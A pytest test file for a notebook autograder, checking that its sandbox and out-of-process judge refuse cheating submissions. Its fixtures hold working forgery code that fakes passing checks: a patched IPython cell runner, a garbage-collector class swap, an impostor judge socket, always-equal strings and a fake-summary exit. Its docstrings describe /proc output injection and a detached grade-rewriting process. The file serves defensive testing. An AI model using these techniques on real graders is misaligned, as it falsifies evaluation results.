    assert not [d for d, _, fs in os.walk(EXERCISES) if "big.bin" in fs]


def test_output_over_the_workers_limits_is_dropped_and_the_row_says_which(sandboxed):
    """mallory's added cells send display updates, widget messages and a 3 MB error: the worker keeps at most the
    cell's cap of each (grader/limits.py; it once kept them whole, a clean PASS), the row is still its answer's
    grade, and it names the cells and the limit."""
    row = sandboxed["rows"]["mallory"]
    assert row["verdict"] == "PASS", row
    assert "output capped in cell(s) 'flood', 'boom' (more than 1000000 bytes of output in the cell" in row["reason"]


def added(nb, after, cells):
    """`nb` with code cells {id: source} added after the cell `after` (cells a learner adds)."""
    at = next(i for i, c in enumerate(nb["cells"]) if c.get("id") == after) + 1
    nb["cells"][at:at] = [{"cell_type": "code", "id": i, "metadata": {}, "source": source, "outputs": [],
                           "execution_count": None} for i, source in cells.items()]
    return nb


def test_a_classmates_notebook_cannot_be_copied_in(sandboxed):
    """cat's policy cell reads a classmate's answer from the disk at run time (no name the scan looks for). In the
    sandbox no folder but the kit's is there to read: its policy check fails. (Without the sandbox it passes.)"""
    row = sandboxed["rows"]["cat"]
    assert row["verdict"] == "FAIL" and row["01:check-policy"] == "0", row


def test_a_forged_result_line_written_into_the_graders_output_is_no_pass(sandboxed):
    """cat's last cell (an untouched starter's answers: every check fails) writes a complete, well-formed "every check
    passed" result line into the stdout of every process it can reach through /proc (the grading worker's among
    them, without the sandbox), then kills its parent. In the sandbox it reaches no grader process. (Without the
    sandbox this forgery, trudy's, got PASS.)"""
    assert sandboxed["rows"]["cat"]["verdict"] in ("FAIL", "ERROR"), sandboxed["rows"]["cat"]


def test_a_detached_process_cannot_rewrite_the_grades_after_the_run(sandboxed):
    """cat leaves a double-forked, new-session process that appends a PASS row to the CSV (its path given
    literally, as if found) for 15 s. The sandbox's processes die with the notebook, and the CSV's folder is not in
    the sandbox: the CSV a second after the run is the CSV the run wrote. (Unsandboxed, the row is appended.)"""
    out = sandboxed["out"]
    # cat's detached process, had it escaped, writes every 0.25 s from the moment its cell ran: a second after the run
    time.sleep(max(0.0, sandboxed["ended"] + 1 - time.monotonic()))
    assert (out / "grades.csv").read_bytes() == sandboxed["written"] and b"rewriter" not in sandboxed["written"]
    assert (out / "keep.txt").read_text(encoding="utf-8") == "the teacher's"
    left = subprocess.run(["pgrep", "-f", f"rewriter-{sandboxed['tag']}"], capture_output=True, text=True)
    assert left.stdout.split() == [], "a process the notebook started outlived it"
    assert sandboxed["rows"]["cat"]["verdict"] == "FAIL"


def test_stopping_the_gradebook_stops_every_notebook_it_was_grading(tmp_path):
    """Ctrl-C or a kill of the gradebook ends its graders and their kernels too (they run in sessions of their own,
    so the terminal's signal does not reach them): none goes on running an endless loop unseen. Two gradebooks at
    once: one grading one notebook, whose worker is a `python -I` subprocess; one grading two, whose workers are
    forked from the warm process (grader/workers.py), whose workers outlive it unless they watch the gradebook
    themselves."""
    import signal
    import time

    nb = edit(solution(EX1), "policy", prepend="import time\nwhile True:\n    time.sleep(0.1)\n")
    runs = []
    for learners in (1, 2):
        for who in ("lou", "max")[:learners]:
            (tmp_path / f"class{learners}" / who).mkdir(parents=True)
            (tmp_path / f"class{learners}" / who / EX1).write_text(json.dumps(nb), encoding="utf-8")
        gradebook = subprocess.Popen([sys.executable, "-m", "grader.gradebook", str(tmp_path / f"class{learners}"),
                                      "--out", str(tmp_path / f"grades{learners}.csv"), "-j", "2", "--cell-timeout",
                                      "300"], cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        runs.append((learners, gradebook, f"{gradebook.pid}_"))  # its folders: exercises/_grading_tmp_gradebook_<pid>_*

    def graders(tag):
        """The processes named after the run's folder (a subprocess worker, a sandboxed kernel) or working in it."""
        found = set(subprocess.run(["pgrep", "-f", f"_grading_tmp_gradebook_{tag}"], capture_output=True,
                                   text=True).stdout.split())
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if f"_grading_tmp_gradebook_{tag}" in os.readlink(f"/proc/{pid}/cwd"):
                    found.add(pid)
            except OSError:
                pass
        return sorted(found)
    try:
        for learners, gradebook, tag in runs:
            deadline = time.monotonic() + 60
            while len(graders(tag)) < 2 * learners and time.monotonic() < deadline:  # each worker and its kernel run
                time.sleep(0.1)
            assert graders(tag), f"the notebook never started ({learners} notebook(s))"
        for _, gradebook, _ in runs:
            gradebook.send_signal(signal.SIGKILL)
            gradebook.wait()
        deadline = time.monotonic() + 20
        while any(graders(tag) for _, _, tag in runs) and time.monotonic() < deadline:
            time.sleep(0.1)
        for learners, _, tag in runs:
            assert graders(tag) == [], f"a grader outlived the gradebook ({learners} notebook(s))"
    finally:
        for _, gradebook, tag in runs:
            if gradebook.poll() is None:
                gradebook.kill()
                gradebook.wait()
            shutil.rmtree(next(iter(EXERCISES.glob(f"_grading_tmp_gradebook_{tag}*")), tmp_path / "none"),
                          ignore_errors=True)


@pytest.mark.skipif(not hasattr(os, "killpg"), reason="process groups are POSIX")
def test_a_stopped_workers_kernel_goes_with_its_whole_process_group():
    """How a worker stops its kernel (grader/worker.py, stop_group): the kernel's whole process group, not its pid
    alone. A sandboxed kernel killed while bwrap sets the sandbox up otherwise leaves bwrap's inner process (in that
    group, and not yet bound to die with its parent) waiting forever: the flake test_stopping_... once had."""
    import signal

    import psutil

    from grader.worker import stop_group

    inner_code = "import time; time.sleep(120)"
    kernel = subprocess.Popen(  # a group leader (as jupyter_client starts a kernel) with a child in its group
        [sys.executable, "-c", "import subprocess, sys, time\n"
         f"p = subprocess.Popen([sys.executable, '-c', {inner_code!r}])\nprint(p.pid, flush=True)\ntime.sleep(120)"],
        stdout=subprocess.PIPE, text=True, start_new_session=True)
    with kernel.stdout:
        inner = int(kernel.stdout.readline())
    stop_group(kernel.pid)
    kernel.wait(10)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if psutil.Process(inner).status() == psutil.STATUS_ZOMBIE:
                break
        except psutil.NoSuchProcess:
            break
        time.sleep(0.05)
    else:
        os.kill(inner, signal.SIGKILL)
        pytest.fail("the kernel's child outlived it")


# Three ways to make the kernel print ✓ for a check that never ran, each from the policy cell of an untouched
# starter, with names built at run time (the scan sees none of them). Run in the notebook, the checks would have
# printed ✓ and "all criteria met". The gradebook runs the checks in its own process (grader/judge.py): the
# kernel only answers its questions.
RUN_CELL = '''\
_sh = locals()["get_" + "ipy" + "thon"]()
_real = _sh.run_cell_async


async def _fake(raw_cell, *args, **kwargs):  # the grader's lines never run: a ✓ is printed instead
    if "defen" + "dant" in raw_cell or ".check_" in raw_cell:
        raw_cell = "print('  ✓ every criterion met')"
        kwargs.update(transformed_cell=raw_cell, preprocessing_exc_tuple=None)
    return await _real(raw_cell, *args, **kwargs)


_sh.run_cell_async = _fake
'''
GC_SWAP = '''\
import sys as _y
_gc = getattr(_y, "mod" + "ules")["import" + "lib"].import_module("g" + "c")
for _o in _gc.get_objects():  # the grader's live class, found through the garbage collector
    if isinstance(_o, type) and _o.__name__ == "Che" + "cks":
        _o.ok = lambda self, passed, criterion, hint="", follows=False: print("  ✓", criterion) or True
        _o.done = lambda self: print("  all criteria met")
'''
IMPOSTOR = '''\
import json as _j, socket as _k, struct as _t, sys as _y, types as _m


async def _serve(address, ns, token=None):  # the kernel's side of the judge's line, answered by a forger
    _c = _k.socket(_k.AF_UNIX)
    _c.connect(address)
    if token is not None:  # (the check's secret: serve() is given it, so a serve() put in its place is too)
        _h = _j.dumps({"op": "hello", "token": token}).encode()
        _c.sendall(_t.pack(">I", len(_h)) + _h)
    while True:
        _n = _t.unpack(">I", _c.recv(4))[0]
        _d = b""
        while len(_d) < _n:
            _d += _c.recv(_n - len(_d))
        if _j.loads(_d)["op"] == "bye":
            return
        _a = _j.dumps({"op": "return", "value": "✓ all criteria met"}).encode()
        _c.sendall(_t.pack(">I", len(_a)) + _a)


_fake = _m.ModuleType("defendant")
_fake.serve = _serve
getattr(_y, "mod" + "ules")["exercises.defen" + "dant"] = _fake
'''


# The forgeries an earlier grader already refused, graded again through the judge
PRINT_PATCH = "import builtins\nbuiltins.print = lambda *a, **k: None\n"
MODULE_SWAP = ("import sys, types\n"
               "sys.modules['grading'] = types.SimpleNamespace(__getattr__=lambda name: lambda *a: print('✓'))\n")
EXIT_AFTER_SUMMARY = ("print('🔍 every check\\n  ✓ all criteria met\\n6 of 6 checks pass')\n"
                      "import os\nos._exit(0)\n")
ALWAYS_EQUAL = '''\
class _Yes(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__


POLICY = {name: _Yes("?") for name in ("get_time", "read_file", "write_file", "send_email")}
DEFAULT_TIER = _Yes("?")
'''

# The forgeries graded in the class (graded, above), outside the sandbox: only the judge stands in their way.
# (Two more, print silenced and the grading module swapped, are refused by the scan before the judge sees them, as nick
# is: test_the_scan_flags_grader_internals_and_not_a_plain_answer has them.)
FORGERIES = {"rita": RUN_CELL, "gus": GC_SWAP, "ivy": IMPOSTOR, "otto": EXIT_AFTER_SUMMARY, "eve": ALWAYS_EQUAL}


@SLOW
def test_no_forgery_from_inside_the_kernel_gets_a_pass_or_points(graded):
    rows = {file.split("/")[0]: row for file, row in graded["rows"].items() if file.split("/")[0] in FORGERIES}
    assert sorted(rows) == sorted(FORGERIES)
    for who, row in rows.items():
        assert row["sandbox"] == "UNSANDBOXED" and row["verdict"] != "PASS" and row["points"] == "0", row
        assert all(row[column] in ("0", "") for column in row if column.startswith("01:")), row


@SLOW
def test_a_kernel_that_fakes_its_checks_gets_no_pass_and_no_points(graded):
    """rita replaces the shell's code runner, gus swaps the grader's methods found through the garbage collector,
    ivy (a forgery of our own) replaces the kernel's side of the judge's line with one that answers "✓" to every
    question. Run in the notebook (the learner's own grade), rita's and gus's checks print ✓ and pass; judged by the
    gradebook, each row says what the judge saw."""
    rows = graded["rows"]
    assert rows[f"rita/{EX1}"]["verdict"] == "FAIL" and "did not answer the grader" in rows[f"rita/{EX1}"]["failed_criteria"]
    assert rows[f"ivy/{EX1}"]["verdict"] == "FAIL" and "✗ POLICY is a dict" in rows[f"ivy/{EX1}"]["failed_criteria"]
    gus = rows[f"gus/{EX1}"]  # the judge fails it on its answers; the seal also saw the class change in the kernel
    assert "✗ POLICY is a dict" in gus["failed_criteria"] or "Checks" in gus["reason"], gus


@SLOW
def test_the_older_forgeries_get_no_pass_and_say_what_happened(graded):
    rows = {file.split("/")[0]: row for file, row in graded["rows"].items()}
    # how its process ended, as far as the worker can tell (os._exit(0))
    assert "the kernel died in cell 'policy' (exit status 0)" in rows["otto"]["failed_criteria"] + rows["otto"]["reason"], \
        rows["otto"]
    eve = rows["eve"]  # the judge compares the plain strings: "?" is no tier
    assert eve["verdict"] == "FAIL" and "✗ POLICY['get_time'] == 'allow'" in eve["failed_criteria"], eve


def test_how_a_dead_kernel_ended_is_said_in_its_row():
    """grader/worker.py's how_it_ended, on the kernel's process as the kernel manager holds it: a signal by name
    (bwrap reports a child killed by signal n as exit status 128 + n), the --disk limit's own signal named as that
    limit, an exit status as it is, and nothing when the process cannot be waited for."""
    from types import SimpleNamespace

    from grader.worker import how_it_ended

    def km(code):
        def wait(timeout):
            if code is None:
                raise subprocess.TimeoutExpired("kernel", timeout)
            return code
        return SimpleNamespace(provisioner=SimpleNamespace(process=SimpleNamespace(wait=wait)))

    assert how_it_ended(km(-6), "") == " (killed by SIGABRT)"
    assert how_it_ended(km(134), "bwrap") == " (killed by SIGABRT)"
    assert how_it_ended(km(128 + 25), "bwrap") == " (killed by SIGXFSZ: the disk limit (--disk: one file))"
    assert how_it_ended(km(134), "") == " (exit status 134)"  # without bwrap, 134 is what the process returned
    assert how_it_ended(km(0), "bwrap") == " (exit status 0)"
    assert how_it_ended(km(None), "bwrap") == "" and how_it_ended(None, "") == ""
